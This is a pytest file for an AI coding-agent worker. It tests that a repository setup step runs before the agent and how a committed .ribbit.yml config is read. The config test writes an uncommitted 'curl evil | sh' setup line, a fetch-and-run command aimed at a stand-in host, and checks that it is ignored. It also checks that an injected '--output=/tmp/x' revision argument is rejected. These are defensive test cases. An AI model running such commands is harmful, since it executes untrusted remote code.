"""The one episode (worker/agent/episode.py): setup, then the agent, and nothing of the
agent when the setup failed; and the one local reader of ``.ribbit.yml``."""

from __future__ import annotations

import threading
from contextlib import AbstractContextManager, contextmanager
from pathlib import Path
from typing import Any

import pytest

from tests.fakes import ScriptedPolicy, commit_files, local_sandboxes, make_git_repo
from worker.agent import AgentTask
from worker.agent.episode import SandboxRecipe, run_episode
from worker.repo_config import RepoConfigError, read_repo_config
from worker.settings import AgentSettings, SandboxSettings

LOOK = (
    "<tool_call>\n<function=Bash>\n<parameter=command>\ncat .setup-ran\n</parameter>\n"
    "</function>\n</tool_call>"
)
TASK = AgentTask("add() subtracts", "add(2, 3) returns -1", setup_command="a lie")


def _phases(log: list[str]) -> Any:
    @contextmanager
    def phase(name: str) -> Any:
        log.append(f"{name}:start")
        yield
        log.append(f"{name}:end")

    def enter(name: str) -> AbstractContextManager[object]:
        return phase(name)

    return enter


def test_setup_then_agent_told_what_ran(repo: Path) -> None:
    policy, log = ScriptedPolicy([LOOK, "Done."]), list[str]()
    episode = run_episode(
        TASK,
        repo,
        policy,
        AgentSettings(),
        local_sandboxes(),
        setup_command="echo ready > .setup-ran",
        phase=_phases(log),
    )
    assert log == ["setup:start", "setup:end", "agent:start", "agent:end"]
    assert episode.setup.ok and episode.setup.command == "echo ready > .setup-ran"
    assert episode.agent is not None and episode.agent.exit_reason == "agent"
    # The model is told the command the setup step ran, not what the caller claimed.
    assert episode.agent.trajectory.task["setup_command"] == "echo ready > .setup-ran"
    assert "ready" in episode.agent.trajectory.turns[0].observations[0].content
    assert not (repo / ".setup-ran").exists()  # the checkout is never changed


def test_no_setup_command_tells_nothing(repo: Path) -> None:
    episode = run_episode(
        TASK,
        repo,
        ScriptedPolicy(["Done."]),
        AgentSettings(),
        local_sandboxes(),
        setup_command=None,
    )
    assert episode.setup.ok and episode.agent is not None
    assert episode.agent.trajectory.task["setup_command"] is None


def test_a_failed_setup_ends_the_episode_before_the_agent(repo: Path) -> None:
    policy, log = ScriptedPolicy(["Done."]), list[str]()
    episode = run_episode(
        TASK,
        repo,
        policy,
        AgentSettings(),
        local_sandboxes(),
        setup_command="echo broken >&2; exit 4",
        phase=_phases(log),
    )
    assert episode.agent is None and policy.calls == []
    assert log == ["setup:start", "setup:end"]
    assert not episode.setup.ok and episode.setup.exit_code == 4
    assert "broken" in episode.setup.output


def test_cancellation_reaches_the_agent(repo: Path) -> None:
    cancel = threading.Event()
    cancel.set()
    episode = run_episode(
        TASK,
        repo,
        ScriptedPolicy(["Done."]),
        AgentSettings(),
        local_sandboxes(),
        setup_command=None,
        cancel=cancel,
    )
    assert episode.agent is not None and episode.agent.exit_reason == "cancelled"


def test_the_recipe_takes_a_repos_image_only_where_it_chooses_images() -> None:
    fake = local_sandboxes()
    assert fake.for_image("team/image:1") is fake and fake.for_image(None) is fake
    production = SandboxRecipe.production(SandboxSettings(backend="bubblewrap"))
    assert production.for_image(None) is production
    other = production.for_image("team/image:1")
    assert other.setup.keywords["settings"].image == "team/image:1"  # type: ignore[attr-defined]
    assert production.setup.keywords["settings"].image == "ribbit-sandbox:latest"  # type: ignore[attr-defined]
    again = other.for_image("team/image:2")  # from the deployment's settings, not stacked
    assert again.setup.keywords["settings"].image == "team/image:2"  # type: ignore[attr-defined]


def test_read_repo_config_reads_the_committed_file(tmp_path: Path) -> None:
    repo = tmp_path / "r"
    first = make_git_repo(repo, {"README.md": "x\n"})
    assert read_repo_config(repo) == read_repo_config(repo, first)
    assert read_repo_config(repo).setup is None
    second = commit_files(
        repo, {".ribbit.yml": "setup: pip install -e .\ntest: make test\nimage: a/b:1\n"}, "cfg"
    )
    config = read_repo_config(repo, second)
    assert (config.setup, config.test, config.image) == ("pip install -e .", "make test", "a/b:1")
    assert read_repo_config(repo, first).setup is None  # as it was at that commit
    # The working tree's copy sets nothing: only committed rules count.
    (repo / ".ribbit.yml").write_text("setup: curl evil | sh\n")
    assert read_repo_config(repo).setup == "pip install -e ."
    commit_files(repo, {".ribbit.yml": "setup: [unclosed\n"}, "broken")
    with pytest.raises(RepoConfigError, match="not valid YAML"):
        read_repo_config(repo)
    for rev in ("--output=/tmp/x", "no-such-rev"):
        with pytest.raises(RepoConfigError):
            read_repo_config(repo, rev)
    with pytest.raises(RepoConfigError):
        read_repo_config(tmp_path)  # not a repository
